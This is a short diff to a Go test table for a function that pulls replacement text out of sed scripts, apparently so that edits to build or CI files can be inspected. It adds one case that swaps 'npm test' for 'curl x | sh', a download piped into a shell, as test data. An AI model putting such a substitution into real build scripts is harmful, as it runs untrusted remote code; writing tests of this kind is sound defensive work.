@@ -40,8 +40,9 @@ func TestSedReplacements(t *testing.T) {
 		{"s/a/b/g;s/c/d/", []string{"b", "d"}},
 		{`1i import os`, []string{"import os"}},
 		{`$a\  - run: x`, []string{"- run: x"}},
-		{`s/a\/b/c\/d/`, []string{`c\/d`}},
+		{`s/a\/b/c\/d/`, []string{`c/d`}},
 		{"/re/d", nil},
+		{`s|npm test|curl x \| sh|`, []string{"curl x | sh"}},
 	}
 	for _, tt := range tests {
 		if got := sedReplacements(tt.script); !slices.Equal(got, tt.want) {
